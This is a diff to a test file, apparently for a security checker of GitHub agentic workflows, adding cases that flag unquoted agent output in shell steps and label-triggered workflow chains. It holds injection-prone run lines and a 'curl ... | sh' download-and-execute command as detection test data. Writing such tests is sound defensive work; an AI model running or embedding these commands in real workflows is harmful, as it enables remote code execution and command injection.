@@ -294,6 +294,27 @@ const SHORT: readonly Short[] = [
     `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: './x.sh "$(jq -r .a $GH_AW_AGENT_OUTPUT)"' }] } } }`,
     [ERROR],
   ],
+  ...(
+    [
+      ['in a command', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', '# ./x.sh $(cat $GH_AW_AGENT_OUTPUT)'],
+      [
+        'whose file has quotes',
+        './x.sh $(cat "$GH_AW_AGENT_OUTPUT")',
+        './x.sh "$(cat "$GH_AW_AGENT_OUTPUT")"',
+      ],
+      ['by backquotes', './x.sh `cat $GH_AW_AGENT_OUTPUT`', './x.sh "a `cat $GH_AW_AGENT_OUTPUT`"'],
+      [
+        'among other words',
+        './x.sh --text $(cat $GH_AW_AGENT_OUTPUT)',
+        './x.sh "text $(cat $GH_AW_AGENT_OUTPUT)"',
+      ],
+      ['that is not only printed', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', 'echo $(cat $GH_AW_AGENT_OUTPUT)'],
+      ['that is not only assigned', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', 'A=$(cat $GH_AW_AGENT_OUTPUT)'],
+    ] as const
+  ).map(([what, run, other]): Short => {
+    const step = (text: string) => `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: '${text}' }] } } }`;
+    return [`an output of the file without quotes, ${what}`, step(run), step(other), [ERROR]];
+  }),
   [
     'a download in a job that gets the output',
     `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: 'curl -s https://x.example.com/a.sh | sh' }] } } }`,
@@ -391,6 +412,46 @@ export const AGENTIC: readonly FilePair[] = [
     ['.github/workflows/deploy.yml', LABELED('labeled'), LABELED('opened')],
     [ERROR, WARNING],
     [ERROR, INFO],
+  ),
+  ...(
+    [
+      ['a comment names', LABELED('labeled'), `# Not for labeled ones.\n${LABELED('opened')}`],
+      ['a step names', LABELED('labeled'), LABELED('opened').replace('{}', '{ a: { name: labeled } }')],
+      ['a text lists', LABELED('labeled'), 'on: [issues, labeled]\njobs: {}\n'],
+    ] as const
+  ).map(([what, text, other]) =>
+    withFile(
+      `any label for anyone, where another workflow is started by the label that ${what}`,
+      `${OPEN}safe-outputs: { add-labels: {} }`,
+      ['.github/workflows/deploy.yml', text, other],
+      [ERROR, WARNING],
+      [ERROR, INFO],
+    ),
+  ),
+  ...(
+    [
+      ['`label_command`', 'on:\n  label_command: fix\n', 'on:\n  slash_command: fix # no label_command\n'],
+      ['one line', 'on: issue labeled bug\n', 'on: issue opened\n'],
+      ['its front matter', 'on:\n  issues:\n    types: labeled\n', 'on: push\nname: labeled\n'],
+    ] as const
+  ).map(([what, text, other]) =>
+    withFile(
+      `any label for anyone, where a label starts another agentic workflow by ${what}`,
+      `${OPEN}safe-outputs: { add-labels: {} }`,
+      [
+        '.github/workflows/fix.md',
+        `---\n${text}---\nDo it.\n`,
+        `---\n${other}---\nDo it, on what is labeled.\n`,
+      ],
+      [ERROR, WARNING],
+      [ERROR, INFO],
+    ),
+  ),
+  withFile(
+    'checks that settings of something else do not force',
+    `${PUSH}strict: false`,
+    ['.github/workflows/aw.json', '{ "other": { "strict": true } }', '{ "strict": true }'],
+    [WARNING],
   ),
 ];
 
